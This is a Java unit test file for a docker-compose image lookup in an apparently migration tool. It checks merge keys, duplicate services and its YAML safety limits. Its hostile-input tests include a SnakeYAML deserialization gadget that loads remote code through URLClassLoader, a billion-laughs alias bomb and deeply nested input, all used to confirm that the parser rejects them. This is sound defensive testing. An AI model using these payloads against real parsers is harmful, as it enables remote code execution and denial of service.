package dev.beanstalkmigrator.reconcile.image;

import static dev.beanstalkmigrator.reconcile.image.SampleBundles.COMPOSE;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.COMPOSE_OTHER;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.assertFinds;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.bytes;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.c;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.find;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.junk;
import static dev.beanstalkmigrator.reconcile.image.SampleBundles.zip;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.beanstalkmigrator.reconcile.image.BundleLookup.NotFound;
import dev.beanstalkmigrator.reconcile.image.SampleBundles.Expect;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * {@link ComposeFile}: the image of a service in a compose file, with merge keys read as docker compose reads them,
 * and the plan's YAML limits against hostile files; reasons never quote the file.
 */
class ComposeFileTest {

    static final String COMPOSE_ANCHORS = """
            x-base: &base
              image: repo/web:anchored
              restart: always
            services:
              web:
                <<: *base
                ports: ["80:80"]
            """;
    static final String COMPOSE_INTERPOLATED = """
            services:
              web:
                image: repo/web:${TAG}
            """;
    static final String COMPOSE_BROKEN = """
            services:
              web:
                image: repo/web:1
                environment:
                  DB_PASSWORD: hunter2
                 bad: indentation: here
            """;
    static final String COMPOSE_GLOBAL_TAG = """
            services: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
            """;
    static final String COMPOSE_MERGE_LIST = """
            x-first: &first {image: repo/web:first}
            x-second: &second {image: repo/web:second, build: .}
            services:
              web:
                <<: [*first, *second]
              worker:
                <<: *second
                image: repo/worker:own
            """;
    static final String COMPOSE_DUPLICATE_SERVICE = """
            services:
              web: {image: repo/web:1}
              web: {image: repo/web:2}
            """;

    static Stream<Arguments> cases() {
        return Stream.of(
                // docker-compose
                c("compose .yml zipped", zip("docker-compose.yml", COMPOSE), "web",
                        Expect.found("repo/web:compose", "docker-compose.yml")),
                c("compose .yaml zipped", zip("docker-compose.yaml", COMPOSE), "web",
                        Expect.found("repo/web:compose", "docker-compose.yaml")),
                c("compose plain", bytes(COMPOSE), "web", Expect.found("repo/web:compose", "docker-compose.yml")),
                c("compose written as JSON, plain", bytes("{\"services\": {\"web\": {\"image\": \"repo/web:j\"}}}"),
                        "web", Expect.found("repo/web:j", "docker-compose.yml")),
                c("compose service with only build", zip("docker-compose.yml", COMPOSE), "worker",
                        Expect.notFound("service 'worker' has no image", "build:")),
                c("compose missing service", zip("docker-compose.yml", COMPOSE_OTHER), "web",
                        Expect.notFound("docker-compose.yml has no service named 'web' (it has: api)")),
                c("compose anchors and merge keys", zip("docker-compose.yml", COMPOSE_ANCHORS), "web",
                        Expect.found("repo/web:anchored", "docker-compose.yml")),
                c("compose variable substitution", zip("docker-compose.yml", COMPOSE_INTERPOLATED), "web",
                        Expect.notFound("uses variable substitution", "image template")),
                c("compose without services", bytes("version: '3'\nnetworks: {}\n"), "web",
                        Expect.notFound("has no services mapping")),
                c("compose merge list: the earlier mapping wins", zip("docker-compose.yml", COMPOSE_MERGE_LIST),
                        "web", Expect.found("repo/web:first", "docker-compose.yml")),
                c("compose merge: the service's own key wins", zip("docker-compose.yml", COMPOSE_MERGE_LIST),
                        "worker", Expect.found("repo/worker:own", "docker-compose.yml")),
                c("compose service given twice", zip("docker-compose.yml", COMPOSE_DUPLICATE_SERVICE), "web",
                        Expect.notFound("docker-compose.yml services sets 'web' twice (again at line 3)")),

                // junk and hostile input
                c("plain text", bytes("hello world"), "web", Expect.notFound("not a YAML mapping")),
                c("YAML global tag", bytes(COMPOSE_GLOBAL_TAG), "web", Expect.notFound("docker-compose.yml")),
                c("YAML local tag", bytes("services: !custom {web: {image: x}}\n"), "web",
                        Expect.notFound("the source bundle (read as docker-compose.yml) cannot be read at line 1,"
                                + " column 11: type tags like `!custom` are not allowed in a compose file")),

                // The plan's YAML setup: no type tags at all, its nesting and node limits.
                c("YAML standard tag", zip("docker-compose.yml", "services: {web: {image: !!str repo/web:1}}\n"),
                        "web", Expect.notFound("docker-compose.yml cannot be read at line 1, column 25: type tags"
                                + " like `!!str` are not allowed")),
                c("YAML nested deeper than a plan may be", zip("docker-compose.yml", COMPOSE + deeplyNested(25)),
                        "web", Expect.notFound("docker-compose.yml cannot be read",
                                "nesting is deeper than 20 levels")),
                c("YAML alias expansion under the alias cap", zip("docker-compose.yml", COMPOSE + aliasExpansion()),
                        "web", Expect.notFound("docker-compose.yml cannot be read",
                                "expands to more than 100000 nodes")),
                c("YAML alias bomb", bytes(billionLaughs()), "web", Expect.notFound("more than 50 aliases")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void finds(String name, byte[] bundle, String container, Expect expect) {
        assertFinds(bundle, container, expect);
    }

    @Test
    void reasonsNeverQuoteFileContent() {
        BundleLookup result = find(zip("docker-compose.yml", COMPOSE_BROKEN), "web");
        NotFound notFound = assertInstanceOf(NotFound.class, result);
        assertTrue(notFound.reason().contains("docker-compose.yml cannot be read at line 6"), notFound.reason());
        assertFalse(notFound.reason().contains("hunter2"), notFound.reason());
    }

    // ---- builders -----------------------------------------------------------------------------------

    static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char prev = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            yaml.append("]\n");
        }
        return yaml.append("services: {web: {image: *i}}\n").toString();
    }

    /** {@code depth} mappings, one inside the other, under a top-level key. */
    static String deeplyNested(int depth) {
        StringBuilder yaml = new StringBuilder("x-deep:\n");
        for (int i = 1; i < depth; i++) {
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.append("  ".repeat(depth)).append("end: 1\n").toString();
    }

    /** 40 aliases (under the cap of 50) whose expansion is 10^4 lists of 10: more nodes than a plan may have. */
    static String aliasExpansion() {
        StringBuilder yaml = new StringBuilder("x-l0: &l0 [a, a, a, a, a, a, a, a, a, a]\n");
        for (int level = 1; level <= 4; level++) {
            yaml.append("x-l").append(level).append(": &l").append(level).append(" [");
            for (int i = 0; i < 10; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
            }
            yaml.append("]\n");
        }
        return yaml.toString();
    }
}
